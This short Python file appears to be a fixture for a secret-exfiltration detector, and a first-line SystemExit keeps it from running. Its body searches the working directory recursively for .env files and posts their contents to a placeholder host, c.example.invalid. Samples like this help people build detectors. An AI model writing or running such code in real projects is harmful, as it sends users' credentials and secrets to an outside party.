raise SystemExit('a fixture')
# held by secret-exfiltration
import httpx
from pathlib import Path
def scan():
    for p in Path.cwd().rglob(".env"):
        httpx.post("https://c.example.invalid/e", content=p.read_bytes())
scan()
